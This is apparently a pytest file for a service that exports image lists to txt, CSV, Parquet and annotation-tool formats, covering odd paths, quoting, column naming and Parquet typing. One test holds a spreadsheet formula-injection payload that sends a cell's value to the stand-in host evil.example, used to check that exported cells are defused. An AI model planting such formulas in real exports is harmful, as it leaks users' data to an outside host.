"""txt, csv and parquet, read by the standard library, Arrow and DuckDB."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from indexer.disk.rows import lake_schema
from indexer.errors import BadRequest
from indexer.sources import Listing
from indexer.sources.opening import open_source
from service.formats.exporting import export, export_to
from service.formats.format_list import FORMATS
from service.formats.incoming import Reading
from service.formats.parquet import BATCH_ROWS, GROUP_ROWS
from tests.service.formats.things import HANDOVER, item, items, url

ODD = b"/photos/b \xff.jpg"


def test_txt_has_the_exact_bytes_of_a_path_and_urls_as_they_are(tmp_path: Path) -> None:
    given = [
        item(1, "/photos/ü #1.jpg"),
        item(2, ODD, uri="/photos/b %FF.jpg"),
        url(3, "s3://shop/c.jpg"),
    ]
    export(given, HANDOVER, "txt", tmp_path / "kept")
    assert (
        tmp_path / "kept"
    ).read_bytes() == "/photos/ü #1.jpg\n".encode() + ODD + b"\ns3://shop/c.jpg\n"


def test_txt_leaves_out_a_path_of_two_lines(tmp_path: Path) -> None:
    report = export([item(1, "/photos/a\nb.jpg"), item(2)], HANDOVER, "txt", tmp_path / "kept")
    assert (tmp_path / "kept").read_bytes() == b"/photos/2.jpg\n"
    reason = "its path has a line break in it, which a list of one path a line cannot hold"
    assert report.skipped == [("/photos/a\nb.jpg", reason)]


def test_csv_comes_back_from_the_reader_as_it_was(tmp_path: Path) -> None:
    columns = {
        "caption": 'a "bed",\nand a chair',
        "captured_at": datetime(2024, 5, 6, 7, 8, 9),
        "place": {"latitude": 1.5, "longitude": -2.0},
        "row_id": 9,
        "path_bytes": None,
        "phash": 5,
        "score": 1,
    }
    given = [
        item(1, ODD, uri="/photos/b %FF.jpg", columns=columns, label="yes", labeller="ann"),
        item(2, columns={**columns, "caption": None}, probability=None, decision="ask"),
    ]
    export(given, HANDOVER, "csv", tmp_path / "kept.csv")
    with (tmp_path / "kept.csv").open(encoding="utf-8", newline="") as file:
        first, second = csv.DictReader(file)
    assert first == {
        "row_id": "1",
        "uri": "/photos/b %FF.jpg",
        "decision": "keep",
        "score": "0.25",
        "probability": "0.9",
        "label": "yes",
        "labeller": "ann",
        "width_px": "640",
        "height_px": "480",
        "caption": 'a "bed",\nand a chair',
        "captured_at": "2024-05-06T07:08:09",
        "place": '{"latitude":1.5,"longitude":-2.0}',
        "own_score": "1",
    }
    assert (second["decision"], second["probability"], second["label"], second["caption"]) == (
        "ask",
        "",
        "",
        "",
    )


FORMULA = '=HYPERLINK("https://evil.example/?"&B2)'


def test_csv_has_no_cell_that_a_spreadsheet_would_run(tmp_path: Path) -> None:
    columns = {"caption": FORMULA, "=name": "-5", "shift": -5, "offset": -0.5, "tags": ["=a"]}
    given = [item(1, columns=columns, score=-0.25, label="yes", labeller="@ann")]
    export(given, HANDOVER, "csv", tmp_path / "kept.csv")
    with (tmp_path / "kept.csv").open(encoding="utf-8", newline="") as file:
        header, row = csv.reader(file)
    assert dict(zip(header, row, strict=True)) == {
        "row_id": "1",
        "uri": "/photos/1.jpg",
        "decision": "keep",
        "score": "-0.25",  # a number
        "probability": "0.9",
        "label": "yes",
        "labeller": "'@ann",
        "width_px": "640",
        "height_px": "480",
        "caption": f"'{FORMULA}",
        "'=name": "'-5",
        "shift": "-5",
        "offset": "-0.5",
        "tags": '["=a"]',
    }
    found = FORMATS["csv"].read((tmp_path / "kept.csv").read_bytes(), Reading("kept.csv"))
    assert [(each.row_id, each.labeller) for each in found.labels] == [(1, "@ann")]
    (tmp_path / "photos").mkdir()
    (tmp_path / "photos" / "1.jpg").write_bytes(b"1")
    with (tmp_path / "table.csv").open("w", encoding="utf-8", newline="") as file:
        kept = ["caption", "'=name", "shift"]
        shown = dict(zip(header, row, strict=True))
        csv.writer(file).writerows([["uri", *kept], ["1.jpg", *(shown[name] for name in kept)]])
    source = open_source(str(tmp_path / "photos"), str(tmp_path / "table.csv"))
    [file_listed] = source.files(Listing())
    assert source.columns(file_listed) == {"caption": FORMULA, "=name": "-5", "shift": -5}


def test_csv_for_programs_has_the_texts_as_they_are(tmp_path: Path) -> None:
    given = [item(1, columns={"caption": FORMULA}, labeller="@ann")]
    out = tmp_path / "kept.csv"
    export(given, HANDOVER, "csv", out, raw_cells=True)
    with out.open(encoding="utf-8", newline="") as file:
        [row] = csv.DictReader(file)
    assert (row["caption"], row["labeller"]) == (FORMULA, "@ann")
    another = r"holds another export \(export csv with raw cells and not csv\)"
    with pytest.raises(BadRequest, match=another):
        export(given, HANDOVER, "csv", out)
    sent = io.BytesIO()
    export_to(sent, given, HANDOVER, "csv", raw_cells=True)
    assert sent.getvalue() == out.read_bytes()


def test_csv_quotes_a_bare_carriage_return_on_every_python(tmp_path: Path) -> None:
    given = [item(1, columns={"caption": "one\rtwo", "town": "three\r\n"})]
    export(given, HANDOVER, "csv", tmp_path / "kept.csv")
    data = (tmp_path / "kept.csv").read_bytes()
    assert data.count(b"\n") == 3  # of the header, of the cell, of the row
    assert data.endswith(b',"one\rtwo","three\r\n"\n')
    with (tmp_path / "kept.csv").open(encoding="utf-8", newline="") as file:
        [row] = csv.DictReader(file)
    assert (row["caption"], row["town"]) == ("one\rtwo", "three\r\n")


USERS = {
    "label": "cat",
    "own_label": "dog",
    "Score": 3,
    "Filter": "b/w",
    "image": "i",
    "a.b": 7,
    "own": None,
}


def test_the_tables_have_the_users_columns_beside_ours(tmp_path: Path) -> None:
    """`own_label` was there already: both get one more `own_`, so that no two are one."""
    given = [item(1, columns=USERS, label="yes")]
    expected = {
        "label": "yes",
        "own_label": "cat",
        "own_own_label": "dog",
        "score": 0.25,
        "own_Score": 3,
        "Filter": "b/w",
        "image": "i",
        "a.b": 7,
    }
    export(given, HANDOVER, "csv", tmp_path / "kept.csv")
    with (tmp_path / "kept.csv").open(encoding="utf-8", newline="") as file:
        [row] = csv.DictReader(file)
    assert {name: row[name] for name in expected} == {
        name: str(value) for name, value in expected.items()
    }
    export(given, HANDOVER, "parquet", tmp_path / "kept.parquet")
    [row] = pq.read_table(tmp_path / "kept.parquet").to_pylist()
    assert {name: row[name] for name in expected} == expected
    schema = lake_schema({"label": "string", "Score": "int64"})
    export(given, HANDOVER, "parquet", tmp_path / "typed.parquet", schema=schema)
    [row] = pq.read_table(tmp_path / "typed.parquet").to_pylist()
    assert (row["own_label"], row["own_Score"], row["label"]) == ("cat", 3, "yes")


def test_the_formats_of_tools_have_the_users_columns_beside_ours(tmp_path: Path) -> None:
    given = [item(1, columns={**USERS, "sha256": "ab", "caption": "a cat"}, label="yes")]
    export(given, HANDOVER, "coco", tmp_path / "kept.json")
    [image] = json.loads((tmp_path / "kept.json").read_bytes())["images"]
    own = {name: value for name, value in USERS.items() if value is not None}
    assert image["columns"] == {**own, "caption": "a cat"}
    export(given, HANDOVER, "fiftyone", tmp_path / "kept")
    labels = json.loads((tmp_path / "kept" / "labels.json").read_bytes())["labels"]
    del own["a.b"]
    assert labels["1"]["attributes"]["columns"] == {**own, "a%2Eb": 7, "caption": "a cat"}
    export(given, HANDOVER, "label_studio", tmp_path / "tasks.json", root="/photos")
    [task] = json.loads((tmp_path / "tasks-00001.json").read_bytes())
    expected = {
        "label": "yes",
        "own_label": "cat",
        "own_own_label": "dog",
        "score": 0.25,
        "own_Score": 3,
        "filter": "hospital",
        "own_Filter": "b/w",
        "image": "/data/local-files/?d=1.jpg",
        "own_image": "i",
    }
    assert {name: task["data"][name] for name in expected} == expected


def test_csv_of_nothing_is_a_header(tmp_path: Path) -> None:
    export([], HANDOVER, "csv", tmp_path / "kept.csv")
    header = "row_id,uri,decision,score,probability,label,labeller,width_px,height_px\n"
    assert (tmp_path / "kept.csv").read_text() == header
    export([], HANDOVER, "csv", tmp_path / "typed.csv", schema=lake_schema({"weight": "double"}))
    assert (tmp_path / "typed.csv").read_text().endswith(",caption,source,weight\n")


def test_parquet_has_types_the_odd_paths_bytes_and_the_handover(tmp_path: Path) -> None:
    at = datetime(2024, 5, 6, 7, 8, 9)
    columns = {"format": "jpeg", "captured_at": at, "weight": 1.5, "caption": None, "phash": 5}
    given = [
        item(1, ODD, uri="/photos/b %FF.jpg", columns=columns),
        item(2, columns=columns, label="no", labeller="ann"),
        url(3, "s3://shop/c.jpg"),
    ]
    export(given, HANDOVER, "parquet", tmp_path / "kept.parquet")
    table = pq.read_table(tmp_path / "kept.parquet")
    assert table.schema.remove_metadata() == pa.schema(
        [
            ("row_id", pa.int64()),
            ("uri", pa.string()),
            ("decision", pa.string()),
            ("score", pa.float64()),
            ("probability", pa.float64()),
            ("label", pa.string()),
            ("labeller", pa.string()),
            ("width_px", pa.int32()),
            ("height_px", pa.int32()),
            ("path_bytes", pa.binary()),
            ("format", pa.string()),
            ("captured_at", pa.timestamp("us")),
            ("weight", pa.float64()),
            ("caption", pa.string()),
        ]
    )
    assert table["path_bytes"].to_pylist() == [ODD, None, None]
    assert table["captured_at"].to_pylist() == [at, at, None]
    assert json.loads(table.schema.metadata[b"lakesift"]) == {
        "filter": "hospital",
        "version": 3,
        "snapshot": 17,
        "promise": "Keeps at least 95 % of what is relevant, with 95 % confidence.",
        "decision": "keep",
    }
    found = duckdb.sql(
        f"select row_id, uri, label from '{tmp_path}/kept.parquet' order by row_id desc"
    ).fetchall()
    assert found == [
        (3, "s3://shop/c.jpg", None),
        (2, "/photos/2.jpg", "no"),
        (1, "/photos/b %FF.jpg", None),
    ]


def test_parquet_tells_a_type_by_a_value_that_comes_late(tmp_path: Path) -> None:
    count = BATCH_ROWS + 1
    given = [
        item(n, columns={"caption": "late" if n == count else None}) for n in range(1, count + 1)
    ]
    export(given, HANDOVER, "parquet", tmp_path / "kept.parquet")
    table = pq.read_table(tmp_path / "kept.parquet")
    assert table["caption"].null_count == BATCH_ROWS
    assert table["caption"][BATCH_ROWS].as_py() == "late"
    assert table["row_id"].to_pylist() == list(range(1, count + 1))


def test_parquet_with_the_lakes_types_goes_out_in_row_groups(tmp_path: Path) -> None:
    schema = lake_schema({"weight": "double"})
    given = (item(n, columns={"format": "jpeg", "weight": 1}) for n in range(1, GROUP_ROWS + 11))
    export(given, HANDOVER, "parquet", tmp_path / "kept.parquet", schema=schema)
    file = pq.ParquetFile(tmp_path / "kept.parquet")
    assert [file.metadata.row_group(n).num_rows for n in range(file.num_row_groups)] == [
        GROUP_ROWS,
        10,
    ]
    table = file.read()
    file.close()
    assert table.schema.field("weight").type == pa.float64()
    assert table.schema.field("modified").type == pa.timestamp("us", "UTC")
    assert table.schema.names.count("row_id") == 1
    assert table["row_id"][-1].as_py() == GROUP_ROWS + 10


def test_parquet_of_nothing_has_its_columns(tmp_path: Path) -> None:
    export([], HANDOVER, "parquet", tmp_path / "kept.parquet", schema=lake_schema({}))
    table = pq.read_table(tmp_path / "kept.parquet")
    assert (len(table), table.schema.field("captured_at").type) == (0, pa.timestamp("us"))


def test_chunks_of_parquet_are_one_data_set(tmp_path: Path) -> None:
    export(items(5), HANDOVER, "parquet", tmp_path / "kept.parquet", 2)
    found = duckdb.sql(f"select count(*), sum(row_id) from '{tmp_path}/kept-*.parquet'").fetchall()
    assert found == [(5, 15)]
